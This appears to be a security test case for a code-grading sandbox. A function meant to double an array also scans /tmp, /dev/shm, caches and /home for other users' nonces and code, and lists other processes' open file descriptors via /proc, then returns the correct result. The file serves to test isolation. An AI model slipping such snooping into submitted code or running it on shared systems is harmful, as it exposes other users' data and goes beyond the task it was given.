# attack: look for other users' code and results: other processes, /tmp, /dev/shm, the xla cache, open fds
# category: information
# expect: AC
import os
import re

NEEDLE = re.compile(rb"victim-nonce-[0-9a-f]+|def double")


def grep_tree(top, hits, budget=[4000]):
    for root, _dirs, files in os.walk(top):
        for f in files:
            budget[0] -= 1
            if budget[0] < 0:
                return
            p = os.path.join(root, f)
            try:
                data = open(p, "rb").read(1 << 20)
            except OSError:
                continue
            for m in NEEDLE.finditer(data):
                hits.append((p, m.group(0)[:60]))


def double(x):
    hits = []
    for top in ("/tmp", "/dev/shm", "/var/tmp", "/opt/tensorjudge/xla-cache", "/run", "/home"):
        grep_tree(top, hits)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
                hits.append((pid, fd, os.readlink(f"/proc/{pid}/fd/{fd}")))
    print([h for h in hits if b"victim" in repr(h).encode() or len(h) == 3][:100])
    return (2 * x).reshape(-1)
